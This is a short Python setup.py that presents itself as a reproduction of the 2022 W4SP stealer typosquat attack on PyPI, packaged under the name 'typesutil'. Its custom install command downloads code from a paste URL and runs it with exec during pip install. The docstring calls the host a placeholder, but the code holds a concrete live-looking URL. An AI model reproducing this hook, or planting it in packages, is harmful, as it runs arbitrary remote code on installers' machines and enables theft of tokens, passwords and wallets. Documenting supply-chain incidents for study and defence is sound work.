"""Incident: W4SP stealer typosquats (PyPI), October-November 2022.

Dozens of packages (typesutil, typestring, pyhttpproxifier...) hid a one-line import-time
payload in setup.py that fetched code from a paste-like host and executed it during
`pip install`; the stage stole Discord tokens, browser passwords and wallets.
Reference: https://blog.phylum.io/phylum-discovers-dozens-more-pypi-packages-attempting-to-deliver-w4sp-stealer-in-ongoing-supply-chain-attack/
Reproduction (own code, placeholder host).
"""

from urllib.request import urlopen

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self) -> None:
        install.run(self)
        exec(urlopen("https://paste.bingner.com/paste/fhvyp/raw").read())


setup(
    name="typesutil",
    version="0.1.3",
    packages=["typesutil"],
    cmdclass={"install": PostInstall},
)
